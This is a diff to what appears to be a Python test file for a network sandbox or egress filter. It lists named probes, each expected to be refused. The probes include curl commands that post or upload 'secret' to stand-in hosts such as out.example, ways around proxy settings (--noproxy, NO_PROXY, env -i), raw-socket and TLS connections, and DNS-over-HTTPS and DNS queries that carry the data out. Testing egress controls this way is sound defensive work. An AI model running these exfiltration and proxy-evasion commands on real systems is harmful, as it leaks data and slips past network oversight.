@@ -18,7 +18,7 @@ TCP = "s = socket.socket(); s.setblocking(False)\n"
 UNIX = "s = socket.socket(socket.AF_UNIX)\n"
 C = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long\n"
 QUERY = "b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\1\\0\\1'"
-CURL = "curl -sk -m 5"
+CURL, CURL_OUT = "curl -sk -m 60", "curl -sk -m 5"  # the latter where nobody answers
 
 
 def refused(what: str) -> str:
@@ -49,10 +49,10 @@ WEB: dict[str, tuple[str, str]] = {
     "a post": ("to out.example", f"sh:{CURL} -d secret http://out.example/"),
     "an upload": ("to out.example", f"sh:echo secret | {CURL} -T - http://out.example/"),
     "a host of a profile": ("to cdn.cribl.io", f"sh:{CURL} https://cdn.cribl.io/telemetry/index.html?v=1"),
-    "without the proxy": (f"to {OUT}", f"sh:{CURL} --noproxy '*' http://{OUT}/secret"),
-    "by NO_PROXY": (f"to {OUT}", f"sh:NO_PROXY='*' no_proxy='*' {CURL} http://{OUT}/secret"),
-    "without variables": (f"to {OUT}", f"sh:env -i /usr/bin/{CURL} http://{OUT}/secret"),
-    "http2 without tls": ("to ", f"sh:{CURL} --http2-prior-knowledge --noproxy '*' http://{OUT}/"),
+    "without the proxy": (f"to {OUT}", f"sh:{CURL_OUT} --noproxy '*' http://{OUT}/secret"),
+    "by NO_PROXY": (f"to {OUT}", f"sh:NO_PROXY='*' no_proxy='*' {CURL_OUT} http://{OUT}/secret"),
+    "without variables": (f"to {OUT}", f"sh:env -i /usr/bin/{CURL_OUT} http://{OUT}/secret"),
+    "http2 without tls": ("to ", f"sh:{CURL_OUT} --http2-prior-knowledge --noproxy '*' http://{OUT}/"),
     "http 0.9": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'GET /secret\\r\\n'); s.close()"),
     "half a request": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'POST /secret HT'); s.close()"),
     "no byte": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 443)); s.close()"),
@@ -66,7 +66,7 @@ WEB: dict[str, tuple[str, str]] = {
         "try: c.wrap_socket(s, server_hostname='secret.example')\nexcept OSError: pass"),
     "raw tls": ("to ", f"sh:timeout 4 openssl s_client -connect {OUT}:443 </dev/null"),
     "tls of a mail server": ("other_port", f"sh:timeout 3 openssl s_client -starttls smtp -connect {OUT}:25 </dev/null"),
-    "dns over https": (f"to {OUT}", f"sh:{CURL} --noproxy '*' 'https://{OUT}/dns-query?dns=c2VjcmV0'"),
+    "dns over https": (f"to {OUT}", f"sh:{CURL_OUT} --noproxy '*' 'https://{OUT}/dns-query?dns=c2VjcmV0'"),
     "ipv6": (f"to {OUT6}", f"s = socket.create_connection(('{OUT6}', 80)); s.send(b'x'); s.close()"),
     "ipv4 in ipv6": (f"to {OUT}", "s = socket.socket(socket.AF_INET6)\n"
         f"s.connect(('::ffff:{OUT}', 443)); s.send(b'x'); s.close()"),
